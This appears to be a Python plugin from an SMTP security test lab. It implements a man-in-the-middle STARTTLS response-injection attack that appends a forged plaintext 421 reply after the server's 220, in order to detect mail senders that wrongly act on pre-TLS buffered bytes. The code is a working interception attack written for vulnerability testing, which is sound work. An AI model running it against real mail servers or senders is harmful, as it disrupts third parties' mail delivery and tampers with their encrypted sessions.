"""inject-response: append plaintext replies to the MX's 220 to STARTTLS.

The STARTTLS response-injection class (RFC 3207 4.2; the client-side mirror of the command
injection CVE-2011-0411, e.g. CVE-2021-38371 in Exim's SMTP client): the injected bytes
arrive in plaintext together with the 220, before the handshake. A sender
that keeps them buffered reads them, after TLS is up, as the MX's reply to its new EHLO.
The default injection is a ``421`` "closing" reply: a vulnerable sender believes the MX
hung up and gives up; a compliant one discards the bytes, says EHLO again inside TLS and
delivers. The session itself is tunnelled untouched to the genuine MX.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from lab.attacks.base import FlowView, SmtpAttack
from lab.smtp.types import Reply, TlsPlan


@dataclass
class InjectResponse(SmtpAttack):
    name: ClassVar[str] = "inject-response"
    summary: ClassVar[str] = ("Append a forged plaintext reply to the 220 to STARTTLS "
                              "(response injection, CVE-2011-0411 class).")
    enforce_breaking: ClassVar[bool] = False

    code: int = 421
    """The code of the injected reply."""
    text: str = "4.7.0 Service closing transmission channel (injected by the attacker)"
    repeat: int = 1
    """How many copies of the reply to inject (one per command a vulnerable sender sends)."""

    def __post_init__(self) -> None:
        if not 200 <= self.code <= 599:
            raise ValueError(f"{self.name}: code must be an SMTP reply code, not {self.code}")
        if "\r" in self.text or "\n" in self.text:
            raise ValueError(f"{self.name}: text must be one line")
        if not 1 <= self.repeat <= 20:
            raise ValueError(f"{self.name}: repeat must be between 1 and 20")

    @property
    def injected(self) -> bytes:
        return Reply(self.code, (self.text,)).encode() * self.repeat

    def on_starttls(self, flow: FlowView) -> TlsPlan | None:
        data = self.injected
        flow.fire(self.name, f"appended {len(data)} bytes of plaintext after the 220 "
                             f"to STARTTLS ({self.repeat} x '{self.code} ...')")
        return TlsPlan("tunnel", inject=data)
